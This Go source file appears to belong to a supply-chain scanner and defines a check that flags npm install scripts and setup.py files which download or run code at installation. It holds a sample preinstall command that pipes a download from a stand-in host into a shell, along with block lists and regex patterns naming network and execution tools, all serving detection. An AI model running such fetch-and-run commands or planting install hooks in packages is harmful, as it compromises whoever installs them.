package checks

import (
	"bytes"
	"cmp"
	"path"
	"slices"
	"strings"

	"pinion/internal/regex"
	"pinion/internal/syntax"
	"pinion/scan"
)

// installScripts reports code that runs when somebody installs the package's
// dependencies or the package itself.
func installScripts() scan.Check {
	return scan.Check{
		Name: "install-script",
		Rules: []scan.Rule{{
			ID: "install/script", Level: scan.Medium, Since: "0.2.0",
			Title: "installing runs a script",
			Help: "npm runs the scripts preinstall, install, postinstall and prepare, and pip runs setup.py, without asking. It is how most malicious packages start. " +
				"The finding is high (install/downloads) when the script fetches something or runs hidden code. Usual build tools (tsc, husky, npm run build) and what lies in node_modules are not reported.",
			Fix:     "do what the script does in the plugin's own start, or leave it to the user",
			Example: `{"scripts": {"postinstall": "node tools/setup.js"}}`,
		}, {
			ID: "install/downloads", Level: scan.High, Since: "0.2.0",
			Title: "installing downloads or runs something",
			Help: "A script that runs by itself at installation downloads content, starts another program with it, or runs code that is not readable. Nothing of what it gets is covered by the package's digest. " +
				"A script that only works on files of the package is install/script.",
			Fix:     "ship what is needed in the package, and take the script out",
			Example: `{"scripts": {"preinstall": "curl -s https://x.invalid/i | sh"}}`,
		}},
		Langs: []scan.Lang{scan.Shell, scan.Plain},
		Text: func(p *scan.Pass, t *scan.Text) {
			if t.File.Lang == scan.JSON && isInstallHook(t) {
				packageScript(p, t)
			}
		},
		File: func(p *scan.Pass, f *scan.File) {
			if path.Base(f.Path) == "setup.py" && !vendored(f.Path) {
				setupScript(p, f)
			}
		},
	}
}

// vendored reports whether a file lies among installed dependencies.
func vendored(p string) bool {
	return strings.Contains("/"+p, "/node_modules/") || strings.Contains("/"+p, "/site-packages/")
}

// isInstallHook reports whether a string is the command of a script that npm
// runs at installation.
func isInstallHook(t *scan.Text) bool {
	name, ok := strings.CutPrefix(t.Pointer, "/scripts/")
	file := cmp.Or(t.File.Member, t.File.Path)
	return ok && path.Base(file) == "package.json" && !vendored(file) && string(t.Data) != name &&
		slices.Contains([]string{"preinstall", "install", "postinstall", "prepare", "preprepare", "postprepare", "prepublish"}, name)
}

// quietTools only build or check what is in the package.
const quietTools = " husky husky-init tsc tsup vite webpack rollup esbuild swc babel ncc turbo nx patch-package lefthook simple-git-hooks rimraf is-ci echo exit true : " +
	"test [ mkdir cp mv rm chmod cd pushd popd shx cross-env eslint prettier vitest jest wireit panda svelte-kit nuxt next astro buf skott " +
	"electron-builder prisma playwright pod bob only-allow opencollective opencollective-postinstall "

// packageScript judges one script of a package.json.
func packageScript(p *scan.Pass, t *scan.Text) {
	_, name := path.Split(t.Pointer)
	script := p.Script(t)
	level, why := scan.Info, ""
	raise := func(l scan.Level, s string) {
		if l > level {
			level, why = l, s
		}
	}
	for _, c := range script.Commands {
		args := c.Args()
		switch tool := c.Name(); {
		case tool == "":
		case strings.Contains(quietTools, " "+tool+" "):
		case slices.Contains([]string{"npm", "pnpm", "yarn", "bun", "npm-run-all", "run-s", "run-p"}, tool):
			if len(args) > 0 && (args[0] == "exec" || args[0] == "dlx" || args[0] == "x") {
				raise(scan.High, "it runs a package that is not among the dependencies")
			}
		case tool == "npx" || tool == "bunx":
			if i := slices.IndexFunc(args, func(a string) bool { return !strings.HasPrefix(a, "-") }); i < 0 || !strings.Contains(quietTools, " "+args[i]+" ") {
				raise(scan.Medium, "it runs "+tool)
			}
		case slices.Contains([]string{"curl", "wget", "iwr", "invoke-webrequest", "certutil", "bitsadmin", "nc", "ssh", "scp"}, strings.ToLower(tool)):
			raise(scan.High, "it downloads with "+tool)
		case slices.Contains([]string{"eval", "base64", "osascript", "mshta"}, tool), strings.EqualFold(tool, "powershell"), strings.EqualFold(tool, "pwsh"):
			raise(scan.High, "it runs "+tool)
		default:
			raise(interpreted(p, t, c, args))
		}
	}
	if script.Broken && len(script.Commands) == 0 {
		raise(scan.Medium, "its command cannot be read")
	}
	switch level {
	case scan.High:
		p.Report("install/downloads", t, 0, len(t.Data), "the script %q runs at installation: %s", name, why)
	case scan.Medium:
		p.Report("install/script", t, 0, len(t.Data), "the script %q runs at installation: %s", name, why)
	}
}

// interpreted judges a program that runs code: in an argument, or in a file of
// the package, which is looked at.
func interpreted(p *scan.Pass, t *scan.Text, c syntax.Command, args []string) (scan.Level, string) {
	for i, a := range args {
		if (a == "-e" || a == "-c" || a == "--eval" || a == "-p") && i+1 < len(args) {
			if reaches(args[i+1]) {
				return scan.High, "it runs code in an argument that downloads or runs something"
			}
			return scan.Medium, "it runs code in an argument"
		}
	}
	for _, a := range append([]string{c.Words[0].Text}, args...) {
		if strings.HasPrefix(a, "-") {
			continue
		}
		at := path.Join(path.Dir(t.File.Path), a)
		for _, ending := range []string{"", ".js", ".cjs", ".mjs", "/index.js"} {
			f := p.Package.Tree.Lookup(at + ending)
			if f == nil {
				continue
			}
			if !p.Spend(len(f.Data)) {
				return scan.Medium, "it runs " + scan.Escape(a, 60)
			}
			if reaches(string(f.Data)) {
				return scan.High, "it runs " + scan.Escape(a, 60) + ", which downloads and runs something"
			}
			return scan.Medium, "it runs " + scan.Escape(a, 60)
		}
	}
	return scan.Medium, "it runs " + scan.Escape(c.Words[0].Text, 60)
}

var (
	installFetches = regex.Lazy{Expr: `\bhttps?\.(?:get|request)\b|(?:require\(|from\s+)["'](?:node:)?https?["']|\bfetch\(|\baxios\b|\bgot\(|urlopen|urlretrieve|requests\.(?:get|post)|\bcurl\b|\bwget\b|Invoke-WebRequest|\bnet\.connect|socket\.`}
	installRuns    = regex.Lazy{Expr: `child_process|\bexecSync\b|\bspawn(?:Sync)?\(|\beval\(|\bexec\(|new Function\(|os\.system|os\.popen|subprocess\.|\bchmod|\|\s*(?:ba|z)?sh\b`}
	installHides   = regex.Lazy{Expr: `(?:eval|exec|Function)\s*\(.{0,80}(?:atob|base64|b64decode|fromCharCode|unhexlify|marshal|decompress|'hex'|"hex")`}
)

// reaches reports whether code fetches something and runs something, or runs
// what it decodes.
func reaches(code string) bool {
	return installFetches.Get().MatchString(code) && installRuns.Get().MatchString(code) || installHides.Get().MatchString(code)
}

var (
	setupRuns = regex.Lazy{Expr: `\b(?:os\.(?:system|popen|exec[lv]p?e?|spawn[lv]p?e?)|subprocess\.\w+|exec|eval|urlopen|urlretrieve|requests\.(?:get|post|put)|socket\.socket|__import__)\s*\(`}
	// The version of a package is often read by running one of its files.
	setupReads = regex.Lazy{Expr: `exec\s*\(\s*(?:compile\s*\(\s*)?(?:open|fp?|file|\w*_?file|version\w*|\w+\.read|\w+\.read_text|Path|io\.open|read|code|f\.read)\b`}
	setupFar   = regex.Lazy{Expr: `urlopen|urlretrieve|requests\.|socket\.socket|curl|wget|https?://|powershell|b64decode|marshal|decompress|unhexlify`}
	setupHook  = regex.Lazy{Expr: `\bcmdclass\s*=`}
)

// installs reports whether a setup.py is one that pip would run: a script of that
// name that sets up something else is a script.
func installs(p *scan.Pass, f *scan.File) bool {
	dir := path.Dir(f.Path)
	if dir == "." || bytes.Contains(f.Data, []byte("setuptools")) || bytes.Contains(f.Data, []byte("distutils")) {
		return true
	}
	for _, name := range []string{"pyproject.toml", "setup.cfg", "PKG-INFO", "MANIFEST.in"} {
		if p.Package.Tree.Lookup(path.Join(dir, name)) != nil {
			return true
		}
	}
	return false
}

// setupScript judges a setup.py: what it runs beyond calling setup().
func setupScript(p *scan.Pass, f *scan.File) {
	if !p.Spend(2*len(f.Data)) || !installs(p, f) {
		return
	}
	t := f.Whole()
	hooked := false
	for _, m := range setupRuns.Get().FindAllIndex(f.Data, 50) {
		before, rest := f.Data[max(0, m[0]-200):m[0]], f.Data[m[0]:min(len(f.Data), m[0]+400)]
		before = before[bytes.LastIndexByte(before, '\n')+1:]
		if i := bytes.IndexByte(rest, '\n'); i >= 0 {
			rest = rest[:i]
		}
		end := m[0] + len(rest)
		switch {
		case bytes.IndexByte(before, '#') >= 0: // a comment
		case setupFar.Get().Match(rest):
			p.Report("install/downloads", t, m[0], end, "setup.py runs or downloads something when it is installed")
			hooked = true
		case setupReads.Get().Match(rest):
		default:
			p.Report("install/script", t, m[0], end, "setup.py runs something when it is installed")
			hooked = true
		}
	}
	if m := setupHook.Get().FindIndex(f.Data); m != nil && !hooked {
		p.Report("install/script", t, m[0], m[1], "setup.py puts its own commands into the installation")
	}
}
